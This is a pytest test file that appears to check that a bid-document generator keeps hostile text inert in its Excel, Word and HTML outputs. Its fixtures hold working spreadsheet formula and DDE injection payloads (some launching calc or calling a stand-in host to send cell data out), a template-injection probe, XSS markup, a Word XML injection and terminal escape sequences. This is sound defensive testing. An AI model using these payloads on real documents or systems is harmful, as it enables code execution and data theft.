"""A deal whose every text is an attack: built as it stands, it attacks nobody who opens what comes of it."""

from __future__ import annotations

import io
import re
from collections import Counter
from collections.abc import Iterator
from html import unescape
from pathlib import Path

import docx
import openpyxl
import pytest
from docx.oxml.ns import qn
from here import run_here
from workspace import NOW, make_workspace

from bidkit.build import Options, make_package
from bidkit.office import recalculate

FORMULAS = (
    *("=cmd|'/c calc'!A0", '=HYPERLINK("http://a.example/?"&A1,"x")', "+1+cmd|'/c calc'!A0", "-2+3+cmd|'/c calc'!A0"),
    *("@SUM(1+1)*cmd|'/c calc'!A0", "{=1+1}", '=WEBSERVICE("http://a.example")', 'DDE("cmd";"/c calc";"x")'),
)
TEMPLATE = "{{ 7 * 191 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}"
MARKUP = '</title></td><script>alert(1)</script><img src="http://a.example/x" onerror="alert(1)">'
XML = ']]></w:t></w:r></w:p><w:p><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/>&#0;&evil;<!--'
LINE = {"category": "A", "unit": "=1+1", "quantity": "1", "unit_price": "100.00", "tax_rate": "13%"}


@pytest.fixture(scope="module")
def deal(tmp_path_factory: pytest.TempPathFactory) -> Path:
    texts = (*FORMULAS, TEMPLATE, MARKUP, XML)
    lines = [LINE | {"id": f"L{at}", "name": text, "spec": text, "remark": text} for at, text in enumerate(texts)]
    asked = [
        {"id": f"R{at}", "clause": text, "text": text, "response": text, "deviation": "none"}
        for at, text in enumerate(texts)
    ]
    changes = {
        "title": f"={TEMPLATE}{MARKUP}{XML}",
        "customer__name": f"=客户{MARKUP}",
        "requirements": asked,
        "solution__overview": "\n\n".join(texts),
        "quote__categories": [{"id": "A", "name": FORMULAS[0]}],
        "quote__lines": lines,
        "quote__total": None,
        "quote__total_words": None,
    }
    return make_workspace(tmp_path_factory.mktemp("hostile"), "commercial", **changes)


@pytest.fixture(scope="module")
def files(deal: Path) -> dict[str, bytes]:
    result, files = make_package(deal, Options(now=NOW, is_draft=True))
    assert files is not None, [item.message("en") for item in result.diagnostics]
    return files


def list_cells(files: dict[str, bytes]) -> Iterator[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(files["submit/quote-DRAFT.xlsx"]))
    yield from (cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None)


def test_no_text_of_a_deal_is_a_formula_in_the_workbook(files: dict[str, bytes]) -> None:
    cells = [*list_cells(files)]
    formulas = [cell.value for cell in cells if cell.data_type == "f"]
    assert formulas and not [text for text in formulas if re.search(r"cmd|HYPERLINK|WEBSERVICE|DDE|1\+1", str(text))]
    texts = {cell.value: cell for cell in cells if cell.data_type == "s"}
    for text in FORMULAS:
        assert text in texts
        assert texts[text].quotePrefix == (text[0] in "=+-@"), text


def test_no_text_of_a_deal_is_a_template_or_a_part_of_the_file(files: dict[str, bytes]) -> None:
    body = docx.Document(io.BytesIO(files["submit/proposal-DRAFT.docx"])).element.body
    text = "".join(node.text or "" for node in body.iter(qn("w:t")))
    assert TEMPLATE in text and MARKUP in text and "DDEAUTO" in text
    assert str(7 * 191) not in text
    fields = [node.get(qn("w:instr")) for node in body.iter(qn("w:fldSimple"))]
    fields += [node.text for node in body.iter(qn("w:instrText"))]
    assert not [code for code in fields if "DDE" in str(code)]


def test_no_text_of_a_deal_is_markup_of_the_report(files: dict[str, bytes]) -> None:
    page = files["internal/report.html"].decode()
    assert MARKUP in unescape(page)
    assert not re.search(r"<(script|img)\b(?! nonce)[^>]*(alert|a\.example)|<script>alert", page)


def test_no_file_of_the_package_is_named_by_the_deal(files: dict[str, bytes]) -> None:
    assert not [name for name in files if re.search(r"\.\.|^/|\\|[<>\x00-\x1f]", name)]


def test_no_text_of_a_deal_steers_the_terminal(deal: Path) -> None:
    """What YAML cannot hold is told, and told without being written."""
    text = deal.read_text(encoding="utf-8")
    path = deal.with_name("deal2.yaml")
    path.write_text(re.sub(r"title: .*", r'title: "\\e]0;x\\a\\e[2J\\u202e\\u2066"', text, count=1), encoding="utf-8")
    done = run_here(deal.parents[2], ("check", "--lang", "en", str(path)), {})
    assert done.returncode == 1
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", done.stdout + done.stderr)


STARTS = ("=", "+", "-", "@", "==", "=-", "＝", "{=", "'=", '"=')
BODIES = (
    *("cmd|'/c calc'!A0", "1+1", 'HYPERLINK("http://a.example/?"&A1,"x")', 'WEBSERVICE("http://a.example")', "A1"),
    *('DDE("cmd";"/c calc";"x")', "rundll32|'URL.dll,OpenURL x'!A", 'IMAGE("http://a.example/x.png")', "SUM(1,1)*2"),
    *("MSEXCEL|'\\..\\..\\cmd.exe'!''", 'INDIRECT("A1")', 'IMPORTXML("http://a.example","//a")', "NOW()", "1e9"),
    *('RTD("x",,"y")', 'CALL("kernel32","WinExec","JC","calc")', 'REGISTER("a","b")', "'file:///c:/x.xls'#$A.A1"),
    *('FILTERXML("<a/>","//a")', "IFERROR(1/0,2)"),
)


@pytest.mark.office
def test_200_texts_that_programs_might_compute_stay_texts_in_libreoffice(tmp_path: Path) -> None:
    texts = [start + body for start in STARTS for body in BODIES]
    assert len(texts) == 200
    lines = [LINE | {"id": f"L{at:03}", "name": text, "spec": text} for at, text in enumerate(texts)]
    changes = {"quote__categories": [{"id": "A", "name": "硬件"}], "quote__lines": lines, "quote__total": None}
    deal = make_workspace(tmp_path, "commercial", **changes, quote__total_words=None)
    result, files = make_package(deal, Options(now=NOW, is_draft=True))
    assert files is not None, [item.message("en") for item in result.diagnostics]
    again, problems = recalculate(files["submit/quote-DRAFT.xlsx"])
    assert again is not None, problems
    for content in (files["submit/quote-DRAFT.xlsx"], again):
        cells = [*list_cells({"submit/quote-DRAFT.xlsx": content})]
        held = Counter(cell.value for cell in cells if cell.data_type == "s")
        assert [text for text in texts if held[text] < 2] == []
        assert not [
            cell.value for cell in cells if cell.data_type == "f" and re.search(r"a\.example|cmd|calc", cell.value)
        ]
